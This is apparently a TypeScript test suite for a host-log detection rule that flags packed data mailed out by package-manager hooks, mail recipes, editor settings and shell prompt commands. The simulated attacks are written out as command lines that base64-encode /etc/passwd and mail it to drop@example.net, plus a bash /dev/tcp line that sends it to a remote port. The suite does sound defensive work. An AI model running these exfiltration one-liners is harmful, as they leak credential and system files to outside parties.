import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HostLog, SECOND } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

/** What programs send that nobody ordered where they were started: by their settings, by the recipes of a mailbox, by a shell itself. */

const TO = 'drop@example.net';

/** Severity and factors of what AN0380 tells; null when it tells nothing. */
async function told(log: HostLog): Promise<{ severity: string; factors: readonly string[] } | null> {
  const found = (await scanLog(log)).filter(({ analytic }) => analytic === 'AN0380');
  assert.ok(found.length <= 1, `${found.length} stories`);
  const [alert] = found;
  return alert === undefined ? null : { severity: alert.severity, factors: alert.factors.map(({ name }) => name) };
}

const HOOK = 'started by a hook, not by the person';
const BACKGROUND = 'runs in the background';
const PACKED = 'packed or encoded data in the pipeline';

function packs(shell: Process, log: HostLog, to = TO): void {
  const [group, mail] = [shell.fork(), shell.fork()];
  mail.exec(`/usr/sbin/sendmail -f root@example.org ${to}`);
  group.run('/usr/bin/cat /etc/passwd');
  group.run('/usr/bin/openssl base64');
  log.submitted('root', to, 40_000);
}

function administrator(): { log: HostLog; apt: Process } {
  const log = new HostLog();
  log.deliver();
  const shell = log.shell('ops');
  const apt = shell.run('/usr/bin/sudo apt-get install page-b').run('/usr/bin/apt-get install page-b', {
    who: { ...shell.who, uid: 0 },
  });
  return { log, apt };
}

test('a hook of a package manager packs something and mails it out: nobody at the terminal ordered that', async () => {
  const { log, apt } = administrator();
  packs(apt.run(['/bin/sh', '-c', '(cat /etc/passwd | openssl base64) | sendmail x']), log);
  const found = await told(log);
  assert.equal(found?.severity, 'medium');
  assert.ok(found?.factors.includes(HOOK) && found.factors.includes(PACKED), found?.factors.join());
});

test('the copy of a package manager that becomes the shell is not on record: the program before it was its child', async () => {
  const { log, apt } = administrator();
  for (let i = 0; i < 20; i++) apt.run('/usr/bin/dpkg --print-foreign-architectures');
  packs(apt.fork().run(['/bin/sh', '-c', '(cat /etc/passwd | openssl base64) | sendmail x']), log);
  assert.ok((await told(log))?.factors.includes(HOOK));
});

test("what a job's package manager has run is the job's, apart from what it does for somebody at a terminal", async () => {
  const { log, apt } = administrator();
  const words = ['/bin/sh', '-c', '(cat /etc/passwd | openssl base64) | sendmail x'];
  packs(apt.run(words), log);
  log.wait(60 * SECOND);
  const nightly = log.cron('root', 'apt-get -y upgrade').run('/usr/bin/apt-get -y upgrade');
  packs(nightly.run(words), log);
  const found = (await scanLog(log)).filter(({ analytic }) => analytic === 'AN0380');
  const how = found.map(({ factors }) =>
    factors.map(({ name }) => name).find(each => [HOOK, BACKGROUND].includes(each)),
  );
  assert.deepEqual(how.toSorted(), [BACKGROUND, HOOK].toSorted());
});

test('words of other programs that look like the -c of a shell are none, and the shell of a hook may speak SMTP itself', async () => {
  const toTwo = administrator();
  const line = 'openssl base64 < /etc/passwd | mail -s x -c other@example.net drop@example.net';
  const shell = toTwo.apt.run(['/bin/sh', '-c', line]);
  shell.pipeline('/usr/bin/openssl base64', `/usr/bin/mail -s x -c other@example.net ${TO}`);
  toTwo.log.submitted('root', TO, 40_000);
  assert.ok((await told(toTwo.log))?.factors.includes(HOOK), 'a copy for another');

  const itself = administrator();
  const speaks = itself.apt.run(['/bin/bash', '-c', 'exec 3<>/dev/tcp/203.0.113.25/25; cat /etc/passwd >&3']);
  speaks.connect('203.0.113.25', 25);
  assert.ok((await told(itself.log))?.factors.includes(HOOK), 'the shell itself');
});

test('what a hook runs may have command lines of its own; what a person types into an editor of a hook is theirs', async () => {
  const within = async (act: (hook: Process) => Process): Promise<boolean> => {
    const { log, apt } = administrator();
    const hook = act(apt.run(['/bin/sh', '-c', 'something || true']));
    hook.pipeline('/usr/bin/openssl base64', `/usr/bin/mail -s x ${TO}`);
    log.submitted('root', TO, 40_000);
    return (await told(log))?.factors.includes(HOOK) === true;
  };
  const line = ['/bin/sh', '-c', `openssl base64 < /etc/passwd | mail -s x ${TO}`];
  const script = (above: Process, by: string) => above.run('/root/bin/after', { by });
  assert.ok(await within(hook => hook.run(line)), 'a shell in a shell');
  assert.ok(await within(hook => script(hook, '/usr/bin/perl').run(line)), 'system(3) of a script');
  assert.ok(
    await within(hook => script(script(hook, '/bin/bash').run(line), '/usr/bin/python3').run(line)),
    'of several',
  );
  assert.ok(!(await within(hook => hook.run('/usr/bin/vim /etc/notes').run(line))), 'an editor');
});

test('a hook of version control that is a script itself, and what only has its name', async () => {
  const committed = async (hg: string): Promise<readonly string[]> => {
    const log = new HostLog();
    log.deliver();
    const commit = log.shell('dev').run(`${hg} commit -m x`, { by: '/usr/bin/python3' });
    const hook = commit.run(['/bin/sh', '-c', `tar c . | base64 | mail -s x ${TO}`]);
    hook.pipeline('/usr/bin/tar c .', '/usr/bin/base64', `/usr/bin/mail -s x ${TO}`);
    log.submitted('dev', TO, 40_000);
    const [alert] = await scanLog(log);
    return alert?.factors.filter(({ name }) => name === HOOK).map(({ evidence }) => evidence) ?? [];
  };
  assert.deepEqual(await committed('/usr/bin/hg'), ['hg']);
  assert.deepEqual(await committed('/home/dev/bin/hg'), []);
});

test("system(3) of a package's own script is no hook", async () => {
  const { log, apt } = administrator();
  const script = apt.run('/usr/bin/dpkg --configure -a').run('/var/lib/dpkg/info/page.postinst', { by: '/bin/sh' });
  const line = `openssl base64 < /etc/passwd | mail -s x ${TO}`;
  script.run(['/bin/sh', '-c', line]).pipeline('/usr/bin/openssl base64', `/usr/bin/mail -s x ${TO}`);
  log.submitted('root', TO, 40_000);
  assert.ok(!(await told(log))?.factors.includes(HOOK));
});

test('a hook that mails a note to the administrator is what such hooks do', async () => {
  const { log, apt } = administrator();
  apt.run(['/bin/sh', '-c', '/usr/bin/apt-listchanges --apt']).run('/usr/sbin/sendmail root@example.org');
  log.submitted('root', 'root@example.org', 2000);
  const found = await told(log);
  assert.ok(found === null || found.severity === 'informational', JSON.stringify(found));
});

/** A delivery agent runs a recipe of the mailbox's owner. */
function recipe(line: string): { log: HostLog; shell: Process } {
  const log = new HostLog();
  log.deliver();
  const agent = log.service('/usr/lib/postfix/sbin/local -t unix').run('/usr/bin/procmail -a');
  const shell = agent.run(['/bin/sh', '-c', line], { who: { ...agent.who, uid: log.shell('clerk').who.uid } });
  return { log, shell };
}

test('a recipe that answers a message with a file of its own, encoded, is a job of its owner', async () => {
  const { log, shell } = recipe('(echo; base64 contracts/c1.txt) | sendmail -t');
  for (let i = 0; i < 3; i++) {
    const [group, mail] = [shell.fork(), shell.fork()];
    group.run('/usr/bin/base64 /home/clerk/contracts/c1.txt');
    mail.exec(`/usr/sbin/sendmail -oi ${TO}`);
    log.submitted('clerk', TO, 3000);
    log.wait(10 * SECOND);
  }
  const found = await told(log);
  assert.equal(found?.severity, 'medium');
  assert.ok(found?.factors.includes(PACKED));
});

test('a recipe that only answers is mail software at its work', async () => {
  const { log, shell } = recipe('formail -r | sendmail -t');
  const [answer, mail] = [shell.fork(), shell.fork()];
  answer.exec('/usr/bin/formail -r');
  mail.exec(`/usr/sbin/sendmail -oi ${TO}`);
  log.submitted('clerk', TO, 3000);
  assert.equal(await told(log), null);
});

/** Mail software starts a program that packs a copy and sends the message on. `above` starts `words`; who sends is the last of them. */
async function passedOn(above: string, words: string | readonly string[], by?: string) {
  const log = new HostLog();
  log.deliver();
  const script = log.service(above).run(words, by === undefined ? {} : { by });
  const [, mail] = script.pipeline('/usr/bin/gzip -c', `/usr/sbin/sendmail -G -i ${TO}`);
  mail?.run('/usr/sbin/postdrop -r');
  log.submitted('root', TO, 3000);
  return told(log);
}

test('a program of the mail software that packs a copy of what it passes on sends nothing of its own', async () => {
  const pipe = '/usr/lib/postfix/sbin/pipe -n filter';
  const script = '/etc/postfix/keep-a-copy';
  assert.equal(await passedOn(pipe, script), null, 'a program');
  assert.equal(await passedOn(pipe, script, '/bin/sh'), null, 'a script');
  const configured = '/usr/lib/dovecot/dovecot-lda -c /etc/dovecot/dovecot.conf';
  assert.equal(await passedOn(configured, script, '/bin/sh'), null, 'below a program that has a -c of another kind');
  const found = await passedOn(pipe, ['/bin/sh', '-c', `gzip -c keys | sendmail ${TO}`]);
  assert.ok(found?.factors.includes(PACKED), 'a line of commands');
});

const BESIDE = 'again and again, beside somebody at a terminal';

/** `PROMPT_COMMAND='(history 2 | mail … &)'`: each is an orphan of a terminal. */
async function prompts(times: number, to: string, gap = 2 * SECOND): Promise<readonly string[]> {
  const log = new HostLog();
  log.deliver();
  const shell = log.shell('clerk');
  for (let i = 0; i < times; i++) {
    shell.run('/usr/bin/ls');
    shell.fork().orphan().exec(`/usr/bin/mail -s x ${to}`).run('/usr/sbin/sendmail -i');
    log.submitted('clerk', to, 500);
    log.wait(gap + i * 700);
  }
  return (await told(log))?.factors ?? [];
}

test('orphans of a terminal send one message after the other to somebody outside: the shell does it by itself', async () => {
  assert.ok((await prompts(4, TO)).includes(BESIDE));
  assert.ok(!(await prompts(2, TO)).includes(BESIDE), 'twice');
  assert.ok(!(await prompts(4, 'buyer@example.org')).includes(BESIDE), 'to somebody inside');
  assert.ok(!(await prompts(4, TO, 900 * SECOND)).includes(BESIDE), 'now and then');
});

/** Each time, an editor at a terminal has a line run that packs a file and mails it; `left` of it by pid 1. */
async function saved(
  times: number,
  line: string,
  {
    packs = true,
    orphan = false,
    editor = '/usr/bin/vim notes.txt',
  }: { packs?: boolean; orphan?: boolean; editor?: string } = {},
) {
  const log = new HostLog();
  log.deliver();
  const shell = log.shell('clerk');
  for (let i = 0; i < times; i++) {
    const lines = shell.run(editor).run(['/bin/bash', '-c', line]);
    const [group, mail] = [lines.fork(), lines.fork()];
    // Which of the two stages is a program first is chance.
    if (packs && i % 2 === 0) group.run('/usr/bin/gzip -c notes.txt');
    if (orphan && i % 2 === 0) mail.orphan();
    mail.exec(`/usr/sbin/sendmail ${TO}`).run('/usr/sbin/postdrop -r');
    if (packs && i % 2 === 1) group.run('/usr/bin/gzip -c notes.txt');
    log.submitted('clerk', TO, 5000);
    log.wait(10 * SECOND);
  }
  return told(log);
}

const LEFT = `((echo; gzip -c notes.txt) | /usr/sbin/sendmail ${TO} &)`;

test('an editor that has packed mail sent in the background does so by its settings, whoever took over what it left', async () => {
  for (const orphan of [false, true]) {
    const found = await saved(2, LEFT, { orphan });
    assert.equal(found?.severity, 'medium');
    assert.ok(found?.factors.includes(HOOK), found?.factors.join());
  }
  assert.ok((await saved(1, LEFT))?.factors.includes(HOOK), 'once');
});

test('what each start of an editor does is its settings; what a person types into it once, or gives it as a word, is theirs', async () => {
  const waits = `(echo; gzip -c notes.txt) | /usr/sbin/sendmail ${TO}`;
  assert.ok((await saved(2, waits))?.factors.includes(HOOK));
  assert.equal(await saved(1, waits), null, 'once');
  assert.equal(await saved(2, `/usr/sbin/sendmail ${TO}`, { packs: false }), null, 'without a file');
  const gpg = await saved(2, 'a-line', { editor: '/usr/bin/watch a-line' });
  assert.equal(gpg, null, 'a line among its words');
});
